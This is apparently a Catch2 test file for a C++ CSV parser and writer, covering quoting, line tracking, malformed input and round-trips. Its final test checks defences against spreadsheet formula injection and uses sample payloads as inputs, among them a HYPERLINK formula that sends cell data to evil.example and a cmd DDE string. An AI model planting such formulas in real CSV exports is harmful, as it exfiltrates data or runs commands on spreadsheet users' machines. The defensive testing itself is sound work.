#include <catch2/catch.hpp>

#include "tools/csv.hpp"

using namespace stagevote::tools;

namespace {

std::vector<std::vector<std::string>> cells_of(const Table& table) {
  std::vector<std::vector<std::string>> out;
  for (const auto& row : table.rows) out.push_back(row.cells);
  return out;
}

}  // namespace

TEST_CASE("CSV fields are read as RFC 4180 writes them", "[csv]") {
  struct Case {
    const char* name;
    std::string text;
    std::vector<std::vector<std::string>> cells;
  };
  auto c = GENERATE(values<Case>({
      {"plain LF", "a,b\nc,d\n", {{"a", "b"}, {"c", "d"}}},
      {"CRLF and no final break", "a,b\r\nc,d", {{"a", "b"}, {"c", "d"}}},
      {"quoted comma", "\"x, y\",z\n", {{"x, y", "z"}}},
      {"doubled quote", "\"say \"\"hi\"\"\",z\n", {{"say \"hi\"", "z"}}},
      {"line break inside quotes", "\"one\ntwo\",z\n", {{"one\ntwo", "z"}}},
      {"empty fields", "a,,\n", {{"a", "", ""}}},
      {"BOM is dropped", "\xEF\xBB\xBF编号,标题\n", {{"编号", "标题"}}},
      {"blank lines are skipped", "a\n\n , \nb\n", {{"a"}, {"b"}}},
      {"Chinese text", "e01,党旗代代传\n", {{"e01", "党旗代代传"}}},
  }));
  CAPTURE(c.name);
  Problems problems;
  Table table = parse_csv("t.csv", c.text, problems);
  CHECK(problems.empty());
  CHECK(cells_of(table) == c.cells);
}

TEST_CASE("CSV rows know the line they start on", "[csv]") {
  Problems problems;
  Table table = parse_csv("t.csv", "h1,h2\n\n\"multi\nline\",x\nlast,y\n", problems);
  REQUIRE(table.rows.size() == 3);
  CHECK(table.rows[0].line == 1);
  CHECK(table.rows[1].line == 3);
  CHECK(table.rows[2].line == 5);
}

TEST_CASE("Malformed CSV quoting is reported with its line", "[csv]") {
  Problems problems;
  SECTION("a quote never closed") {
    parse_csv("bad.csv", "a,b\nc,\"open\nd,e\n", problems);
    REQUIRE(problems.size() == 1);
    CHECK(to_string(problems[0]) == "bad.csv:2: a quoted field is never closed");
  }
  SECTION("text after a closing quote") {
    parse_csv("bad.csv", "a,b\n\"x\"y,z\n", problems);
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].line == 2);
  }
}

TEST_CASE("CSV written by append_csv_row reads back the same", "[csv]") {
  std::vector<std::vector<std::string>> rows = {
      {"名次", "标题", "note"}, {"1", "a, \"quoted\" title", "two\r\nlines"}, {"2", " lead", ""}};
  std::string text(kUtf8Bom);
  for (const auto& row : rows) append_csv_row(text, row);
  Problems problems;
  Table table = parse_csv("round.csv", text, problems);
  CHECK(problems.empty());
  CHECK(cells_of(table) == rows);
}

TEST_CASE("CSV cells a spreadsheet would run as formulas are neutralised", "[csv][files]") {
  // OWASP's list: = + - @, tab and CR at the start of a cell.
  CHECK(neutralise_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")") ==
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")");
  CHECK(neutralise_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
  CHECK(neutralise_cell("-2+3") == "'-2+3");
  CHECK(neutralise_cell("@SUM(1+1)") == "'@SUM(1+1)");
  CHECK(neutralise_cell("\t=1") == "'\t=1");
  CHECK(neutralise_cell("\r=1") == "'\r=1");
  // Numbers stay numbers; ordinary text is untouched.
  CHECK(neutralise_cell("-1.5") == "-1.5");
  CHECK(neutralise_cell("+3") == "+3");
  CHECK(neutralise_cell("87.41") == "87.41");
  CHECK(neutralise_cell("党旗代代传") == "党旗代代传");
  CHECK(neutralise_cell("a=b") == "a=b");
  CHECK(neutralise_cell("") == "");
  CHECK(neutralise_cell("-") == "'-");

  std::string text;
  append_csv_row(text, {"=HYPERLINK(\"http://x\",\"y\")", "-1.5", "ok"});
  Problems problems;
  Table table = parse_csv("x.csv", text, problems);
  REQUIRE(problems.empty());
  CHECK(cells_of(table) ==
        std::vector<std::vector<std::string>>{{"'=HYPERLINK(\"http://x\",\"y\")", "-1.5", "ok"}});
}
